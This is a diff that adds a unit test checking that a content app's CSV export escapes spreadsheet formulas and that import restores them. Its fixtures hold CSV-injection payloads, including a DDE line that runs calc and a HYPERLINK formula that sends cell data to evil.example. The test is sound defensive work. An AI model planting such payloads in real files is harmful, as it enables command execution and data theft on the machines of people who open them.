@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 
@@ -84,6 +85,30 @@ def test_export_round_trips_through_import(acme, anna, hook, plan):
     assert report.errors == []
     assert list(ContentItem.objects.values_list(*FIELDS)) == before
     assert ContentItem.objects.get().deliveries.get().channel == hook
+
+
+def test_export_writes_formula_text_as_text_and_the_import_gives_it_back(acme, anna, hook, plan):
+    # A title, text and notes a spreadsheet would run as formulas (CSV injection).
+    plan(
+        [hook],
+        text="=cmd|' /C calc'!A0",
+        title='=HYPERLINK("https://evil.example/?"&A1,"klik")',
+        notes="@SUM(1+1)",
+        approve=False,
+    )
+    plan([hook], text="-2+3", title="+1+1", notes="'=blijft zo", approve=False)
+    out = io.StringIO()
+    csvio.export(acme, out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "''=blijft zo" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    before = sorted(ContentItem.objects.values_list(*FIELDS))
+    ContentItem.objects.all().delete()
+
+    report = csvio.import_file(acme, anna, out.getvalue().encode())
+    assert report.errors == []
+    assert sorted(ContentItem.objects.values_list(*FIELDS)) == before
+    assert {"=cmd|' /C calc'!A0", "-2+3"} == set(ContentItem.objects.values_list("text", flat=True))
 
 
 FIELDS = (
